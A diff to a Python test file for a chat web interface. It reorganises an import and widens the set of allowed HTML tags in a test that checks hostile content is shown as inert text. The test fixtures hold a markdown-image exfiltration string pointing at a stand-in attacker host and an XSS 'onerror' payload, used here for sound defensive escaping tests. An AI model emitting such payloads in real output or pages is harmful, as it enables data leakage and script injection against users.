@@ -26,9 +26,10 @@ from tests.fakes_app import (
 )
 from web.chat import Conversation, source
 from web.inert import inert
+from web.item_text import item_html
 from web.message import answer_html, draft_html, question_html
 from web.page import STYLE, messages
-from web.panel import item_html, panel_html
+from web.panel import panel_html
 
 TAGS = re.compile(r"<[^>]*>")
 
@@ -70,7 +71,7 @@ def test_an_exchange_has_no_tags_but_our_own(question: str):
 
 def test_a_hostile_minute_is_text_in_the_panel():
     shown = source(ScriptedAssistant(), asked("hostile"), "1-1")
-    assert set(re.findall(r"<(\w+)", shown)) == {"section", "div", "h2", "button", "p", "dl", "dt", "dd", "mark"}
+    assert set(re.findall(r"<(\w+)", shown)) == {*"section div h2 button p dl dt dd mark nav ul li a span".split()}
     assert marked(shown) == ["It noted ![leak](https://attacker.invalid/p.png?q=1) and"]
     assert "<img src=x onerror=alert(2)> was read out." in lines(shown)
 
